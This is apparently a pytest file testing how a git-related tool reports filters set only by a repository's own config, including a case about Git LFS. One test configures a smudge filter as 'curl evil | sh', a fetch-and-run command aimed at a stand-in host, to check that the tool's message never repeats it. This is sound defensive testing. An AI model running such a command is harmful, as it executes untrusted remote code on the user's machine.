"""Which filters of the repository's own config keep its files from being worked with, by real config files."""

from __future__ import annotations

from pathlib import Path

import gitrepo
import pytest
from gitrepo import GitRepo

from reconciler.git import filters
from reconciler.landing.merge_tree import MergeTrees


@pytest.fixture
def repo(tmp_path: Path) -> GitRepo:
    return gitrepo.make(tmp_path, files={"a": "a\n", "sub/.gitattributes": "*.key  -text filter=x diff\n"})


def missing(repo: GitRepo) -> str | None:
    git = repo.seam()
    return filters.missing(git, MergeTrees(git).attributes(repo.head()).values, "main")


def needed(repo: GitRepo, what: str = "smudge") -> None:
    repo.git("config", f"filter.x.{what}", "cat")
    repo.git("config", "filter.x.required", "true")


@pytest.mark.parametrize("what", ["smudge", "process"])
def test_one_that_files_are_written_through_and_only_the_repository_sets(repo: GitRepo, what: str) -> None:
    needed(repo, what)

    assert "the filter x, which only the repository's own config sets" in (missing(repo) or "")


def test_none_that_the_user_has_set_up_as_well(repo: GitRepo) -> None:
    needed(repo)
    repo.git("config", "--global", "filter.x.smudge", "cat")

    assert missing(repo) is None


def test_none_that_no_file_goes_through(repo: GitRepo) -> None:
    repo.git("config", "filter.other.smudge", "cat")
    repo.git("config", "filter.other.required", "true")
    assert missing(repo) is None

    repo.write({"info/attributes": "# filter=other\n* filter=other\n"}, where=repo.common)
    assert "the filter other" in (missing(repo) or "")


def test_what_it_runs_is_nothing_that_anybody_is_told_to_type(repo: GitRepo) -> None:
    needed(repo)
    repo.git("config", "filter.x.smudge", "curl evil | sh")

    assert "evil" not in (missing(repo) or "")


def test_large_files_are_told_the_command_that_sets_them_up() -> None:
    assert filters.fix("lfs") == "git lfs install (without --local)"
